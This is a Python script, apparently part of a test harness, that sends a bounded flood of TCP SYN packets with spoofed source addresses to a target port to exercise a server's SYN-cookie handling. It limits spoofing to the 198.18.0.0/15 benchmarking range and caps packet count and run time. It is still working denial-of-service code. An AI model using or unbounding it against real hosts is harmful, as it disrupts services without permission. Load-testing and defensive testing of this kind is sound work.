#!/usr/bin/python3
"""Bounded SYN flood with spoofed sources inside one /25 (for synflood.sh).

  synflood_tachyond.py --dst IP --port P --src-net A.B.C.128/25 [--count N] [--seconds S]

Sends TCP SYNs from random addresses of --src-net (never outside it: hping3's --rand-source
would pick any IPv4 address) and random ports, through a raw socket (IP_HDRINCL), until --count
SYNs or --seconds have passed, whichever is first. Prints "sent=N seconds=T".
"""
import argparse
import ipaddress
import random
import socket
import struct
import sys
import time


def csum(data):
    if len(data) % 2:
        data += b'\0'
    s = sum(struct.unpack(f'!{len(data) // 2}H', data))
    while s >> 16:
        s = (s & 0xffff) + (s >> 16)
    return ~s & 0xffff


def syn(src, dst, sport, dport, seq):
    # MSS 1460 option: a real client's SYN, so the cookie path encodes an MSS.
    opts = struct.pack('!BBH', 2, 4, 1460)
    tcp = struct.pack('!HHIIBBHHH', sport, dport, seq, 0, (5 + len(opts) // 4) << 4, 0x02,
                      64240, 0, 0) + opts
    pseudo = struct.pack('!4s4sBBH', src, dst, 0, socket.IPPROTO_TCP, len(tcp))
    tcp = tcp[:16] + struct.pack('!H', csum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 20 + len(tcp), random.getrandbits(16), 0x4000, 64,
                     socket.IPPROTO_TCP, 0, src, dst)
    ip = ip[:10] + struct.pack('!H', csum(ip)) + ip[12:]
    return ip + tcp


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument('--dst', required=True)
    ap.add_argument('--port', type=int, default=1883)
    ap.add_argument('--src-net', required=True)
    ap.add_argument('--count', type=int, default=200000)
    ap.add_argument('--seconds', type=float, default=10)
    args = ap.parse_args()
    net = ipaddress.ip_network(args.src_net)
    if not ipaddress.ip_network('198.18.0.0/15').supernet_of(net):
        sys.exit('source network must lie inside 198.18.0.0/15')
    hosts = [h.packed for h in net.hosts()]
    dst = socket.inet_aton(args.dst)
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
    rnd = random.Random(1883)
    sent = tries = 0
    start = time.monotonic()
    end = start + args.seconds
    # The clock is read every 256 attempts: both bounds hold, and time() is not per packet.
    while sent < args.count:
        tries += 1
        if tries % 256 == 0 and time.monotonic() >= end:
            break
        pkt = syn(rnd.choice(hosts), dst, rnd.randrange(1024, 65536), args.port,
                  rnd.getrandbits(32))
        try:
            s.sendto(pkt, (args.dst, 0))
            sent += 1
        except (BlockingIOError, OSError):
            time.sleep(0.001)  # queue full (or the neighbour not resolved yet): back off briefly
    print(f'sent={sent} seconds={time.monotonic() - start:.2f}', flush=True)


if __name__ == '__main__':
    main()
